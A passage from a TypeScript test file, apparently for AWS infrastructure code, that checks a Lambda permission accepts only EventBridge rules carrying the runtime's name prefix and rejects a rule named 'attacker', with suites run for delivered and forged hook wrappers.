      test('the function may be invoked by such a rule only: its permission names the runtime\'s prefix, and no rule of another name', () => {
        const permission = Object.values(t.runtime.resources).find((res) => res.Type === 'AWS::Lambda::Permission')!;
        const sourceArn = t.runtime.resolve(permission.Properties!.SourceArn);
        expect(sourceArn).toBe(arn('events', `rule/${t.runtime.namePrefix}-*`));
        expect(glob(sourceArn, t.ruleArn)).toBe(true);
        expect(glob(sourceArn, arn('events', 'rule/attacker'))).toBe(false);
      });
    });
  }
}

const KEYS = ['OwnedGroupHooks/Bootstrap', 'ImportedGroupHooks/Drain'];
describe.each(KEYS)('%s', (key) => suite(key, 'delivered'));
// Last: a forged wrapper's settings are kept by the function for its status events (see the report), so they must not reach the tests above.
describe.each(KEYS)('%s, forged wrappers', (key) => suite(key, 'forged'));
